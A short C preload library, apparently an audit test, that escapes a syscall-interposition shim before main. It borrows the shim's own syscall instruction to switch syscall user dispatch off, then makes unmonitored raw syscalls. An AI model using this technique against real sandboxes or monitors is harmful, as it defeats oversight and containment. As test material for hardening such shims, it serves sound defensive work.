/* audit-preload.c: a library that a program is made to load, and that takes the program out of the
 * shim's hands before main: it turns syscall user dispatch off with the core's own instruction,
 * then makes calls of its own. */
#include <sys/syscall.h>

static const unsigned char *instruction(void) {
  const unsigned char *p = (const unsigned char *)0x10000001000;
  while (p[0] != 0x0f || p[1] != 0x05 || p[2] != 0xc3) p++;
  return p;
}

__attribute__((constructor)) static void take_over(void) {
  long result;
  register long r10 __asm__("r10") = 0;
  register long r8 __asm__("r8") = 0;
  __asm__ volatile("call *%[at]"
                   : "=a"(result)
                   : "0"((long)SYS_prctl), "D"(59L), "S"(0L), "d"(0L), "r"(r10), "r"(r8),
                     [at] "r"(instruction())
                   : "rcx", "r11", "memory");
  for (int i = 0; i < 7; i++)
    __asm__ volatile("syscall" : "=a"(result) : "0"((long)SYS_getpgrp) : "rcx", "r11", "memory");
}
